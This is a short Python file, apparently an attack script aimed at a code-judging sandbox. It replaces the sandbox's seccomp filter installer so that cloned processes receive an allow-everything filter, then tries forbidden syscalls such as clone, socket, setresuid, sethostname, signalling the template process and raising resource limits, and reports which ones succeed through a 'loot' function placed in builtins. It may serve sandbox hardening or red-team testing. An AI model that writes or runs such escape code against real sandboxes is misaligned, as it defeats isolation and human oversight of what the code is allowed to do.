# Has its clones install a second filter that allows everything, and clones from there.
# way: clone or zygote
import builtins, ctypes, os, struct

from judge.inside import kernel

install = kernel.set_seccomp_filter
kernel.set_seccomp_filter = lambda bpf: install(struct.pack("<HBBI", 6, 0, 0, 0x7FFF0000))
libc = ctypes.CDLL(None, use_errno=True)


def loot():
    got = []
    for flags in (kernel.CLONE_BOX, kernel.CLONE_BOX & ~0x8000, 17, 0x10000000 | 17):
        pid = libc.syscall(56, ctypes.c_ulong(flags), 0, 0, 0, 0)
        if pid == 0:
            os._exit(0)
        if pid > 0:
            got.append(hex(flags))
    for name, words in {
        "socket": (41, 2, 1, 0),
        "setuid": (117, 0, 0, 0),
        "sethostname": (170, b"x", 1),
        "signal to the template": (62, 2, 0),
        "more files": (302, 0, 7, (ctypes.c_uint64 * 2)(4096, 4096), 0),
    }.items():
        if libc.syscall(*words) >= 0:
            got.append(name)
    return " ".join(got)


builtins.loot = loot


def warmup(x):
    return None
